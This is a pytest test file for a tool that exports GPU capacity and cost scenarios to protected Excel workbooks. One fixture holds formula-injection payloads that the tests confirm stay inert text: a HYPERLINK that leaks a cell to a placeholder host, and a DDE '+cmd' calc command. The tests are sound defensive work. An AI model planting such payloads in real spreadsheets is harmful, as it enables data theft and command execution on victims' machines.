    assert "_" not in words
    return words


KNOWN = {*FAILURES.values(), *WHERE.values(), "over budget", "cloud only", "misses the deadline", "misses a target"}


def failed_in(text: str | None, workload: str = "") -> set[tuple[str, str]]:
    """The (requirement in words, workload) pairs a `fails` cell lists: 'does not fit (chat); misses a target
    (chat-bf16)' where an option's checks span several workloads, else 'does not fit; misses a target' (of
    `workload`). A training run's target is its deadline: none of the shipped decisions fails one."""
    out = set()
    for part in (text or "").split("; ") if text else []:
        said = re.fullmatch(r"([a-z][a-z_ -]*?)(?: \(([^)]+)\))?", part)
        assert said and said[1] in KNOWN, part
        out.add((said[1], said[2] or workload))
    return out


def failing_workload(o) -> str:
    """The workload an option's failures are of, where they are of one."""
    return next(iter({f.workload for f in o.failures}), "")


# -- names -------------------------------------------------------------------------------------
def test_valid_name():
    assert valid_name("dev.h100.price") and valid_name("chat.h100.step_time") and valid_name("_x")
    for bad in ("h100", "b200", "A1", "XFD1048576", "R1C1", "r2c", "R", "C", "TRUE", "false", "1x", "a-b",
                "a b", "x" * 256):
        assert not valid_name(bad), bad


@pytest.mark.parametrize("path", SCENARIOS, ids=lambda p: p.stem)
def test_every_input_and_result_has_a_valid_unique_name(path):
    r = results_of(path.stem)
    names = names_of(r)
    assert set(names) == set(r.inputs) | set(r.blanks) | {x.key for p in r.pairs for x in p.cells()}
    assert all(valid_name(n) for n in names.values())
    assert len({n.lower() for n in names.values()}) == len(names)
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(r)))
    assert set(names.values()) | {MASTER, REQUIREMENTS_MET} <= set(wb.defined_names)


COLLIDING = """\
sizing: 1
name: colliding-ids
devices:
  a-b: {compute: {fp32: 1 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 1 USD/hour}
  a_b: {compute: {fp32: 2 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 2 USD/hour}
  h100: {compute: {fp32: 3 TFLOP/s}, memory: 8 GB, memory_bandwidth: 100 GB/s, price: 3 USD/hour}
workloads:
  r1c1: {kind: matmul, m: 64, n: 64, k: 64}
"""


def scenario_results(text: str, name: str = "inline.yaml") -> Results:
    scn, problems = load_scenario_bytes(text.encode(), name)
    assert scn is not None, problems
    return evaluate(scn)


def test_ids_that_collide_or_look_like_cells_get_distinct_valid_names():
    names = names_of(scenario_results(COLLIDING))
    assert names["device.a-b.price"] == "dev.a_b.price"
    assert names["device.a_b.price"] == "dev.a_b.price_2"
    assert names["device.h100.price"] == "dev.h100.price"
    assert names["r1c1/a-b/flops"] == "r1c1.a_b.flops"
    assert names["r1c1/a_b/flops"] == "r1c1.a_b.flops_2"
    assert all(valid_name(n) for n in names.values())


# -- user text is data, never a formula -----------------------------------------------------------
HOSTILE = """\
sizing: 1
name: hostile
title: '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
description: '=1+1'
owner: '@SUM(1)'
devices:
  gpu:
    name: '+cmd|'' /C calc''!A0'
    compute: {fp32: 10 TFLOP/s}
    memory: 16 GB
    memory_bandwidth: 500 GB/s
    price: 1 USD/hour
    source: '=HYPERLINK("http://example.invalid")'
workloads:
  mm: {kind: matmul, title: '-2+3', m: 256, n: 256, k: 256}
"""


def test_user_text_that_looks_like_a_formula_stays_text():
    data = workbook_bytes(scenario_results(HOSTILE))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        strings = z.read("xl/sharedStrings.xml").decode()
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and not any(bad in f for f in formulas for bad in ("HYPERLINK", "1+1", "SUM(1)", "cmd", "2+3"))
    texts = re.findall(r"<t(?: [^>]*)?>(.*?)</t>", strings)
    for hostile in ('=HYPERLINK("http://example.invalid/?leak="&amp;A1,"click me")', "=1+1", "@SUM(1)"):
        assert hostile in texts, hostile
    for inside in ('=HYPERLINK("http://example.invalid")', "+cmd|' /C calc'!A0", "-2+3"):
        assert any(inside in t for t in texts), inside
    wb = openpyxl.load_workbook(io.BytesIO(data))
    title = wb["README"]["A1"]
    assert (title.data_type, title.quotePrefix, title.value[:11]) == ("s", True, "=HYPERLINK(")
    sources = [c for row in wb["Inputs"].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert sources and all(c.data_type == "s" and c.quotePrefix for c in sources)


# -- structure, styling, reproducibility ------------------------------------------------------------
def test_only_inputs_are_unlocked_and_every_sheet_is_protected():
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(results_of("chat-70b-fp8"))))
    assert wb.sheetnames == ["Summary", "README", "Inputs", "Calc", "Fleet", "Results", "Sweep", "Uncertainty", "Checks",
                             "Roofline", "Constants"]
    assert all(ws.protection.sheet for ws in wb)
    unlocked = {(ws.title, c.column_letter) for ws in wb for row in ws.iter_rows() for c in row
                if c.value is not None and not c.protection.locked}
    assert unlocked == {("Inputs", "B")}                # its sweep is a grid: the engine's values, not live
    live = openpyxl.load_workbook(io.BytesIO(workbook_bytes(results_of("capacity-chat-8b"))))
    assert {(ws.title, c.column_letter) for ws in live for row in ws.iter_rows() for c in row
            if c.value is not None and not c.protection.locked} == {("Inputs", "B"), ("Sweep", "A")}
    inputs = wb["Inputs"]
    validated = {(col, row) for dv in inputs.data_validations.dataValidation for rng in dv.sqref.ranges
                 for col in range(rng.min_col, rng.max_col + 1) for row in range(rng.min_row, rng.max_row + 1)}
    editable = {(c.column, c.row) for row in inputs.iter_rows() for c in row if not c.protection.locked}
    assert validated == editable
    blank = {(c.column, c.row) for (c,) in inputs.iter_rows(min_col=2, max_col=2) if c.value is None
             and not c.protection.locked}
    assert len(blank) == len(results_of("chat-70b-fp8").blanks) > 20        # every device's cost cells it leaves out


def test_inputs_are_shown_in_the_unit_the_user_wrote():
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(results_of("chat-70b-fp8"))))
    names = names_of(results_of("chat-70b-fp8"))
    rows = {}
    for key in ("device.h100.price", "device.h100.memory_bandwidth", "workload.chat.traffic.utilisation"):
        (sheet, coord), = wb.defined_names[names[key]].destinations
        row = int(re.sub(r"\D", "", coord))
        rows[key] = [wb[sheet].cell(row, c).value for c in range(2, 6)]
    assert rows["device.h100.price"][:3] == [2.5, "USD/hour", "=1/k.seconds_per_hour"]
    assert rows["device.h100.memory_bandwidth"][:3] == [3.35, "TB/s", 1e12]
    assert rows["workload.chat.traffic.utilisation"][:3] == [0.5, "share (%)", 1]     # 50 % is 0.5: said beside it
    assert rows["device.h100.price"][3].startswith("=IF(ISNUMBER(B")      # a cost cell: cleared, not offered
    assert all(r[3].startswith("=B") for k, r in rows.items() if k != "device.h100.price")


def test_results_convert_to_display_units():
    r = results_of("chat-70b-fp8")
    ws = openpyxl.load_workbook(io.BytesIO(workbook_bytes(r)))["Results"]
    step, monthly = F.definition("step_time").label, F.definition("monthly_cost").label   # rows read by label
    cells = {}
    for row in ws.iter_rows():                                  # the first workload's rows: chat before chat-bf16
        if row[0].value in (step, monthly):
            cells.setdefault(row[0].value, row)
    assert cells[step][2].value == "=chat.h100.step_time/u.ms"
    assert cells[step][2].number_format == '#,##0.00" ms"'      # 18.52 ms on b200: four significant digits
    assert cells[monthly][2].number_format.startswith('"$"#,##0')


def test_same_scenario_same_bytes():
    r = results_of("chat-70b-fp8")
    first, second = workbook_bytes(r), workbook_bytes(results_of("chat-70b-fp8"))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}      # XlsxWriter's fixed date
        assert b"2026-12-02T00:00:00Z" in z.read("docProps/core.xml")


def test_write_workbook_refuses_to_overwrite_the_scenario(tmp_path):
    src = tmp_path / "s.yaml"
    src.write_text(COLLIDING)
    scn, _ = load_scenario(src)
    with pytest.raises(OutputError):
        write_workbook(evaluate(scn), src)
    write_workbook(evaluate(scn), tmp_path / "out.xlsx")
    assert zipfile.is_zipfile(tmp_path / "out.xlsx")


def test_a_division_by_zero_anywhere_fails_the_master_check(recalc, tmp_path):
    """A bandwidth efficiency of 0 typed over the valid range makes #DIV/0! in the calculations: the checks count
    every error value, so the master check goes FALSE (it said OK before)."""
    r = results_of("capacity-chat-8b")
    source = tmp_path / "c.xlsx"
    source.write_bytes(workbook_bytes(r))
    edited = tmp_path / "zero.xlsx"
    edit_input(source, names_of(r)["device.h100.bandwidth_efficiency"], 0, edited)
    bad, good = recalc([edited, source])
    assert named_values(source, bad)[MASTER] is False and named_values(source, good)[MASTER] is True
    wb = openpyxl.load_workbook(source)
    row = next(c.row for c in wb["Checks"]["A"] if str(c.value).startswith("no calculation error"))
    assert wb["Checks"].cell(row, 3).value.startswith("=(SUMPRODUCT(ISERROR(Summary!A5:")
    errors_free = [openpyxl.load_workbook(f, data_only=True)["Checks"].cell(row, 3).value for f in (bad, good)]
    assert errors_free == [False, True]


def typed_over(recalc, tmp_path: Path, scenario: str, option: str, column: str, formula: str, value: float):
    """The scenario's workbook with `value` typed over an option's Summary cell in `column` (which held `formula`),
    recalculated: the source, the recalculated file, the option's row and its reconciliation column."""
    source = tmp_path / "source.xlsx"
    source.write_bytes(workbook_bytes(results_of(scenario)))
    wb = openpyxl.load_workbook(source)
    ws = wb["Summary"]
    row = next(c.row for c in ws["A"] if c.value == option)
    head = [c.value for c in ws[next(c.row for c in ws["A"] if c.row < row and c.value == "option")]]
    col, check = head.index(column) + 1, head.index(SERVING_CHECK) + 1
    assert ws.cell(row, col).value == formula
    ws.cell(row, col).value = value
    edited = tmp_path / "typed-over.xlsx"
    wb.save(edited)
    (bad,) = recalc([edited])
    return source, bad, row, check


def test_money_that_does_not_reconcile_fails_the_master_check(recalc, tmp_path):
    """An operating cost typed over the Summary's formula (the sheet is protected against exactly this) no longer
    adds up with the capital to the monthly cost: the reconciliation and the master check go FALSE."""
    source, bad, row, check = typed_over(recalc, tmp_path, "platform-two-services", "H100 SXM5 80GB (as stated)",
                                         "operating per month",
                                         "=support.h100.opex_monthly", 999)
    assert named_values(source, bad)[MASTER] is False
    got = openpyxl.load_workbook(bad, data_only=True)
    assert got["Summary"].cell(row, check).value == 0  # FALSE, in the format that shows it
    assert got["Summary"]["B3"].value == "FAILED: see Checks"
    assert [c.value for c in got["Checks"]["A"] if str(c.value).startswith("the money reconciles")]


def test_on_demand_money_that_does_not_reconcile_fails(recalc, tmp_path):
    """An on-demand option's check compared its monthly cost with itself (operating and monthly are one quantity):
    it could not fail. It now multiplies the devices billed on average by the hourly rate and the hours a month; a
    count typed over its formula turns it FALSE, and the master check with it."""
    _, bad, row, check = typed_over(recalc, tmp_path, "chat-70b-fp8", "Instinct MI300X (as stated), on demand",
                                    "devices billed on average (on demand)", "=chat.mi300x.busy_hours_devices", 4)
    got = openpyxl.load_workbook(bad, data_only=True)["Summary"]
    assert got.cell(row, check).value == 0
    assert got["B3"].value == "FAILED: see Checks"
    assert [got.cell(k, check).value for k in range(row + 1, row + 3)] == [1, 1]


@pytest.mark.parametrize("name", ["moe-mixtral-serving", "chat-70b-fp8", "eu-assistant-eur"])
def test_the_readme_sheet_describes_this_workbook(name):
    """A finance reviewer found the README naming an Uncertainty sheet and hosted-API options a workbook did not
    have, and leaving out Summary, Fleet and Constants: it lists the sheets there are, the kinds of option the
    decision ranks, and which parts are values, not formulas."""
    r = results_of(name)
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(r)))
    rows = {c.value: ws_row for ws_row in wb["README"].iter_rows() for c in ws_row[:1] if c.value}
    listed = [v for v in rows if v in wb.sheetnames]
    assert listed == [s for s in wb.sheetnames if s != "README"]
    decision, first = rows["decision"][1].value, rows["1"][1].value
    kinds = {"moe-mixtral-serving": "(a fleet, renting on demand or a batch found by sizing)",
             "chat-70b-fp8": "(a fleet, renting on demand, an alternative or a batch found by sizing)",
             "eu-assistant-eur": "(a fleet, renting on demand, a hosted API or a batch found by sizing)"}[name]
    assert decision.startswith(f"which option {kinds} gives the lowest monthly_cost")
    assert ("Uncertainty" in first) == (r.simulation is not None) == ("Uncertainty" in wb.sheetnames)
